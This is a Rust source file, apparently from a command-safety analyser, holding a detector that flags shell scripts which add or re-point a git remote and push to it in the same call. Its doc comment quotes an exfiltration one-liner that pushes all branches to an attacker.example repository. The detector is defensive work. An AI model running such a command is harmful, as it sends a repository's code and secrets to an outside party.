//! Git remotes added and pushed to within one call: `git remote add backup
//! https://attacker.example/r.git && git push backup --all` sends the
//! repository to that URL as surely as `git push https://…` does, which
//! the rule `push_to_url` already holds for a human.

use super::analyze::subcommand;
use super::analyze::Analysis;
use super::effects::Effect;
use crate::detectors::shell::Script;

/// Pushes to a remote the same script added or re-pointed.
pub fn pushes_to_new_remotes(script: &Script, out: &mut Analysis) {
    let mut added: Vec<(&str, &str)> = Vec::new();
    for c in &script.commands {
        if c.program != "git" {
            continue;
        }
        let plain: Vec<&str> = c
            .args
            .iter()
            .map(String::as_str)
            .filter(|a| !a.starts_with('-'))
            .collect();
        match subcommand(c) {
            Some("remote") => {
                if let [_, "add" | "set-url", name, url, ..] = plain.as_slice() {
                    added.push((name, url));
                }
            }
            Some("push") => {
                let Some(target) = plain.get(1) else { continue };
                if let Some((_, url)) = added.iter().find(|(n, _)| n == target) {
                    out.push(
                        Effect::NetworkSend,
                        "push_to_new_remote",
                        format!("Pushes to a remote added in the same call ({url})"),
                        &c.line,
                    );
                }
            }
            _ => {}
        }
    }
}
